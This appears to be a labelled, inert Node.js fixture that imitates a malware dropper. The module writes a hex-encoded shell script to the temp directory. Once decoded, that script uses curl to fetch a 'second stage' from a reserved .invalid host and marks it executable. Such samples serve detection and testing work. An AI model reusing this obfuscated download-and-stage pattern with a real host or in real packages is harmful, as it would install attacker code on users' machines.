// Inert imitation: a hex-encoded shell script written out at runtime (a reserved .invalid host).
const fs = require('fs');
const os = require('os');
const path = require('path');
const S = '23212f62696e2f73680a2320706c616365686f6c646572207365636f6e642073746167650a6375726c202d6673534c2068747470733a2f2f7374616765322e6578616d706c652e696e76616c69642f702e7368202d6f202f746d702f702e73680a63686d6f64202b78202f746d702f702e73680a6563686f20706c616365686f6c6465720a';
module.exports = () => fs.writeFileSync(path.join(os.tmpdir(), 'placeholder.sh'), Buffer.from(S, 'hex'));
